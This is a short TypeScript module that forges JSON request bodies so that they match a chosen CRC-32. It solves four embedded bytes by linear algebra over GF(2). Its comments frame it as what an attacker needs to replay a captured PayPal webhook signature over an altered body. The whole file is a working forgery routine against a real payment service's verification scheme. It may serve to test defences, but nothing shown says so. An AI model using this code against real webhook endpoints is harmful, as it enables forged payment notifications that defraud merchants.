import { crc32 } from 'node:zlib';

/** Where the four forged bytes go in the body `build` returns. */
export const FORGED_BYTES = 'XXXX';

/**
 * A body whose CRC-32 is `target` — what an attacker replaying a captured PayPal transmission needs,
 * since PayPal's signature covers only the CRC-32 of the body. `build(attempt)` returns the JSON
 * wanted with FORGED_BYTES once inside a string; those four bytes are solved for (CRC-32 is affine
 * over GF(2) in the message bits), and attempts go on until none of them breaks the JSON (a control
 * character, a quote or a backslash).
 */
export function forgeCrc32(target: number, build: (attempt: number) => string): Buffer {
  for (let attempt = 0; attempt < 100; attempt += 1) {
    const text = build(attempt);
    const offset = Buffer.byteLength(text.slice(0, text.indexOf(FORGED_BYTES)));
    const body = Buffer.from(text);
    const crcWith = (bits: number) => {
      body.writeUInt32LE(bits >>> 0, offset);
      return crc32(body) >>> 0;
    };
    const base = crcWith(0);
    const bits = solve(
      Array.from({ length: 32 }, (_, bit) => (crcWith(2 ** bit) ^ base) >>> 0),
      (target ^ base) >>> 0,
    );
    if (bits === null) continue;
    crcWith(bits);
    const forged = [...body.subarray(offset, offset + 4)];
    if (forged.every((byte) => byte >= 0x20 && byte !== 0x22 && byte !== 0x5c)) return body;
  }
  throw new Error('no printable forgery found');
}

/** The x with XOR of columns[i] for each bit i set in x equal to `target`, or null. */
function solve(columns: number[], target: number): number | null {
  const basis: Array<{ value: number; combination: number } | undefined> = [];
  const reduce = (value: number, combination: number, keep: boolean): { value: number; combination: number } | null => {
    for (let bit = 31; bit >= 0; bit -= 1) {
      if (((value >>> bit) & 1) === 0) continue;
      const row = basis[bit];
      if (!row) {
        if (keep) basis[bit] = { value, combination };
        return keep ? null : { value, combination };
      }
      value = (value ^ row.value) >>> 0;
      combination = (combination ^ row.combination) >>> 0;
    }
    return { value, combination };
  };
  columns.forEach((column, index) => reduce(column, 2 ** index, true));
  const reduced = reduce(target, 0, false);
  return reduced && reduced.value === 0 ? reduced.combination : null;
}
